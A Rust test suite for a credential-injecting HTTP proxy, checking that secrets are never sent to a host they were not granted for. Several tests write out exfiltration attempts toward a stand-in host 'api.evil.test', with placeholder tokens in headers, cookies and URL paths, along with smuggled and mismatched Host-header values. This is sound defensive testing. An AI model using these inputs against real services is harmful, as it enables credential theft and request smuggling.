//! Tries to have a secret sent to another host than the one that it is for.

use http::{Request, StatusCode};
use moat_proxy::Mode;

use crate::engine_support::host;
use crate::grants::*;
use crate::support::client::{Http, Inner, empty};
use crate::support::soon;

const EVIL: &str = "api.evil.test";

/// Two grants in one run: the second is the attacker's own.
fn two() -> (Grants, [crate::engine_support::Grant; 2]) {
    let mut grants = Grants::new();
    let (own, theirs) = (grant(&mut grants, "vendor"), grant(&mut grants, "evil"));
    grants.bearer(&own, host(VENDOR));
    grants.bearer(&theirs, host(EVIL));
    (grants, [own, theirs])
}

#[tokio::test]
async fn a_placeholder_in_a_request_to_another_host_stays_one() {
    let (grants, [own, theirs]) = two();
    for version in Http::BOTH {
        let world = world(&grants, policy(Mode::Permissive)).await;
        let evil = Vendor::bearer(&world, EVIL, &theirs.canary).await;
        let sent = own.placeholder.to_string();
        let places = [
            ("GET /", "authorization", format!("Bearer {sent}")),
            ("GET /", "authorization", basic_of(&sent)),
            ("GET /", "x-api-key", sent.clone()),
            ("GET /", "cookie", format!("session={sent}")),
            ("GET /", "user-agent", sent.clone()),
            (&format!("GET /bot{sent}/x?key={sent}"), "accept", "*/*".to_owned()),
        ];
        for (line, name, value) in &places {
            send(&world, EVIL, version, line, &[(name, value)]).await;
        }
        assert_eq!(evil.origin.requests(), places.len());
        assert!(!evil.holds(&own.canary));
        // Their own credential is filled in nevertheless where nothing else stood.
        assert!(evil.holds(&theirs.canary));
    }
}

fn basic_of(password: &str) -> String {
    crate::engine_support::basic("x", password)
}

#[tokio::test]
async fn a_host_without_a_grant_is_reached_unseen() {
    let (grants, grant) = bearer();
    let world = world(&grants, policy(Mode::Permissive)).await;
    let evil = Vendor::stranger(&world, EVIL).await;
    // Nothing is intercepted there: the certificate is the host's own.
    let (socket, head) = world.tunnel(&format!("{EVIL}:443")).await;
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    let connector = world.connector(&["http/1.1"]);
    assert!(connector.connect(EVIL.try_into().unwrap(), socket).await.is_err());
    assert!(!evil.holds(&grant.canary));
}

#[tokio::test]
async fn an_http_1_request_for_another_host_is_refused_on_every_tunnel() {
    let (grants, [own, theirs]) = two();
    let world = world(&grants, policy(Mode::Permissive)).await;
    let vendor = Vendor::bearer(&world, VENDOR, &own.canary).await;
    let evil = Vendor::bearer(&world, EVIL, &theirs.canary).await;
    let token = format!("Authorization: Bearer {}\r\nConnection: close\r\n", own.placeholder);
    let cases = [
        (format!("GET / HTTP/1.1\r\nHost: {VENDOR}\r\n"), 421),
        (format!("GET https://{VENDOR}/ HTTP/1.1\r\nHost: {VENDOR}\r\n"), 421),
        (format!("GET https://{VENDOR}/ HTTP/1.1\r\nHost: {EVIL}\r\n"), 421),
        (format!("GET https://{EVIL}/ HTTP/1.1\r\nHost: {VENDOR}\r\n"), 421),
        (format!("GET / HTTP/1.1\r\nHost: {EVIL}:8443\r\n"), 421),
        (format!("GET / HTTP/1.1\r\nHost: {EVIL}\r\nHost: {VENDOR}\r\n"), 400),
        (format!("GET / HTTP/1.1\r\nHost: {VENDOR}\r\nHost: {EVIL}\r\n"), 400),
        (format!("GET / HTTP/1.1\r\nHost: {EVIL}, {VENDOR}\r\n"), 400),
        (format!("GET / HTTP/1.1\r\nHost: {VENDOR}@{EVIL}\r\n"), 400),
        (format!("GET / HTTP/1.1\r\nHost: {EVIL}/{VENDOR}\r\n"), 400),
        (format!("GET http://{EVIL}/ HTTP/1.1\r\nHost: {EVIL}\r\n"), 400),
        ("GET / HTTP/1.1\r\nHost: \r\n".to_owned(), 400),
        ("GET / HTTP/1.1\r\n".to_owned(), 400),
        ("GET / HTTP/1.0\r\n".to_owned(), 400),
    ];
    for (request, status) in &cases {
        let answer = world.wire(EVIL, &format!("{request}{token}\r\n")).await;
        let got = answer.split(' ').nth(1).unwrap_or_default();
        assert_eq!(got, status.to_string(), "{request:?}: {answer}");
    }
    assert_eq!((vendor.origin.requests(), evil.origin.requests()), (0, 0));
    // Other spellings of the same host are that host.
    for spelling in ["API.Evil.Test", "api.evil.test.", "api.evil.test:443"] {
        let request = format!("GET / HTTP/1.1\r\nHost: {spelling}\r\nConnection: close\r\n\r\n");
        let answer = world.wire(EVIL, &request).await;
        assert!(answer.starts_with("HTTP/1.1 200"), "{spelling}: {answer}");
    }
    assert!(!evil.holds(&own.canary));
}

#[tokio::test]
async fn an_http_2_request_for_another_host_is_refused_and_the_connection_goes_on() {
    let (grants, [own, theirs]) = two();
    let world = world(&grants, policy(Mode::Permissive)).await;
    let vendor = Vendor::bearer(&world, VENDOR, &own.canary).await;
    let evil = Vendor::bearer(&world, EVIL, &theirs.canary).await;
    let Inner::Two(mut sender) = world.client(EVIL, Http::Two).await.inner else { unreachable!() };
    let cases = [
        (format!("https://{VENDOR}/"), None, 421),
        (format!("https://{VENDOR}/"), Some(EVIL), 421),
        (format!("https://{EVIL}/"), Some(VENDOR), 421),
        (format!("https://{EVIL}:8443/"), None, 421),
        (format!("http://{EVIL}/"), None, 400),
        // Well-behaved connections go on after all that.
        (format!("https://{EVIL}/"), None, 200),
    ];
    for (uri, host, status) in cases {
        let mut request = Request::builder().uri(&uri);
        if let Some(host) = host {
            request = request.header("host", host);
        }
        if status != 200 {
            request = request.header("authorization", format!("Bearer {}", own.placeholder));
        }
        sender.ready().await.unwrap();
        let answer = soon(sender.send_request(request.body(empty()).unwrap())).await.unwrap();
        assert_eq!(answer.status(), status, "{uri} {host:?}");
    }
    assert_eq!((vendor.origin.requests(), evil.origin.requests()), (0, 1));
    assert!(!evil.holds(&own.canary));
}

#[tokio::test]
async fn each_request_of_a_kept_connection_is_judged() {
    let (grants, grant) = bearer();
    let mut world = world(&grants, policy(Mode::Strict)).await;
    let vendor = Vendor::bearer(&world, VENDOR, &grant.canary).await;
    let get = |host: &str, more: &str| format!("GET / HTTP/1.1\r\nHost: {host}\r\n{more}\r\n");
    let requests = [get(VENDOR, ""), get(EVIL, ""), get(VENDOR, "Connection: close\r\n")].concat();
    let answer = world.wire(VENDOR, &requests).await;
    let statuses: Vec<_> = answer.split("HTTP/1.1 ").skip(1).map(|answer| &answer[..3]).collect();
    assert_eq!(statuses, ["200", "421", "200"], "{answer}");
    assert_eq!(vendor.origin.requests(), 2);
    let record = world.record(|record| record.status == Some(421)).await;
    assert_eq!(record.reason, Some("authority-mismatch"));
}

#[tokio::test]
async fn a_tunnel_to_the_hosts_address_gets_nothing() {
    let (grants, grant) = bearer();
    for mode in [Mode::Permissive, Mode::Strict] {
        let world = world(&grants, policy(mode)).await;
        let vendor = Vendor::bearer(&world, VENDOR, &grant.canary).await;
        // The first name of the test has the first address.
        let (socket, head) = world.tunnel("203.0.113.1:443").await;
        assert!(head.starts_with("HTTP/1.1 200"), "{head}");
        let name = VENDOR.try_into().unwrap();
        let connector = world.connector(&["http/1.1"]);
        let tls = soon(connector.connect(name, socket)).await;
        assert!(tls.is_err(), "it is not intercepted, so there is no leaf of ours");
        assert_eq!(vendor.origin.requests(), 0);
    }
}

#[tokio::test]
async fn a_vendors_own_paths_are_no_paths_of_the_proxy() {
    let (grants, grant) = bearer();
    let world = world(&grants, policy(Mode::Permissive)).await;
    let vendor = Vendor::bearer(&world, VENDOR, &grant.canary).await;
    let plain = Vendor::plain(&world, "plain.test", |_| true).await;
    let paths = ["/healthz", "/mcp/x", "/relay/x/y", "/_aws/credentials", "/_moat/x", "/metrics"];
    for path in paths {
        for version in Http::BOTH {
            let answer = send(&world, VENDOR, version, &format!("GET {path}"), &[]).await;
            assert_eq!((answer.status(), &answer.body()[..]), (StatusCode::OK, &b"known"[..]));
        }
        let line = format!("GET http://plain.test{path}");
        let answer = world.direct(&line, "Host: plain.test\r\n").await;
        assert!(answer.ends_with("known"), "{answer}");
        // Asked for at the proxy itself, there is nothing.
        let answer = world.direct(&format!("GET {path}"), "Host: plain.test\r\n").await;
        assert!(answer.starts_with("HTTP/1.1 404"), "{answer}");
    }
    assert_eq!((vendor.origin.requests(), plain.origin.requests()), (12, 6));
}
